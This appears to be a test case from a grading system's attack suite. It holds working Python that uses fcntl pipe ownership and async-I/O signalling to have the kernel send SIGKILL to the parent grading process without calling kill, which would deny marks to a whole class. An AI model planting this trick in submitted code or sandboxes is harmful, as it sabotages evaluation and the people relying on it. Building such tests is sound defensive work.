"""Makes its parent the owner of a pipe, and has the kernel signal the owner, without kill."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="no marks for the rest of the class",
    answer=STUB
    + """
import fcntl
import os
import signal

SET_SIGNAL, ASYNC = 10, 0o20000
parent = os.getppid()
if parent > 1:
    try:
        ours, theirs = os.pipe()
        fcntl.fcntl(ours, fcntl.F_SETOWN, parent)
        fcntl.fcntl(ours, SET_SIGNAL, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, ASYNC | os.O_NONBLOCK)
        os.write(theirs, b"now")
    except OSError:
        pass
""",
)
